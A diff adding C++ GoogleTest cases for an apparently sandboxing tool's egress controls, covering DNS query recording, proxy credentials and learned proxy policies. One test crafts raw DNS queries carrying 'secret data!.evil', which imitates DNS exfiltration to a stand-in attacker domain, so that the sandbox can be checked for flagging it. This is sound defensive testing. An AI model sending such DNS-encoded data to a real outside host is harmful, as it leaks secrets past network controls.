@@ -78,6 +78,40 @@ TEST_F(EgressWorld, TheResolverInsideAnswersNamesOfTheListOnly) {
   EXPECT_NE(record.out.find(R"("operation":"egress","target":"data.other.test")"), std::string::npos) << record;
 }
 
+TEST_F(EgressWorld, ANameThatNoHostCanHaveIsRecordedToo) {
+  const std::string ask =
+      "for name in (b'\\x0csecret data!\\4evil', b'\\3x\\x01y\\4evil', b'\\x011\\x010\\x010\\x03127\\7in-addr\\4arpa'):\n"
+      " s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(9); s.connect(('127.0.0.53', 53))\n"
+      " s.send(b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + name + b'\\0\\0\\1\\0\\1'); s.recv(999)\n";
+  const Outcome told = python(ask, {"--json"});
+  EXPECT_NE(told.out.find(R"("operation":"egress","target":"secret data!.evil")"), std::string::npos) << told;
+  EXPECT_NE(told.out.find(R"("protocol":"dns","method":"","host":"x)"), std::string::npos) << told;
+  EXPECT_EQ(told.out.find("in-addr"), std::string::npos) << "the name of loopback is no violation" << told;
+}
+
+TEST_F(EgressWorld, ACredentialOfTheProxyHoldsForEveryProgram) {
+  EXPECT_NE(direct("curl -sS -m 9 http://web.test/", {"--proxy-auth"}).exit_code, 0) << "nothing is served without it";
+  EXPECT_EQ(shell("curl -sS -m 9 http://web.test/a", {"--proxy-auth"}).out, "GET /a host=web.test at=93.184.0.80 body=0\n");
+  const Outcome both = shell("true", {"--proxy-auth", "--transparent"});
+  EXPECT_EQ(both.exit_code, 125) << both;
+  EXPECT_NE(both.err.find("`network.proxy_auth` guards nothing"), std::string::npos) << both;
+}
+
+TEST_F(EgressWorld, WhatIsLearnedOfTheProxyRunsAgain) {
+  const std::string policy = world_.files / "learned.toml";
+  for (const std::string& before : {std::string(), std::string(kNoProxy)}) {
+    const std::string get = before + "curl -sS -m 9 http://web.test:8081/";
+    const Outcome learned =
+        world_.belljar({"learn", "--net", "proxy", "--allow-domain", "**.test", "--output", policy, "--", "sh", "-c", get});
+    EXPECT_EQ(learned.exit_code, 0) << learned;
+    const Outcome again = world_.belljar({"run", "--policy", policy, "--", "sh", "-c", get});
+    EXPECT_EQ(again.out, "GET / host=web.test:8081 at=93.184.0.80 body=0\n") << again << read_file(policy);
+    EXPECT_EQ(read_file(policy).find("198.19."), std::string::npos) << read_file(policy);
+    const Outcome other = world_.belljar({"run", "--policy", policy, "-c", "curl -sS -m 9 http://api.test:8081/"});
+    EXPECT_NE(other.out.find("api.test:8081 is not on the list"), std::string::npos) << other;
+  }
+}
+
 TEST_F(EgressWorld, AnyResolverThatAProgramAsksIsOurs) {
   const std::string ask =
       "q = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + LABELS + b'\\0\\0\\1\\0\\1'\n"
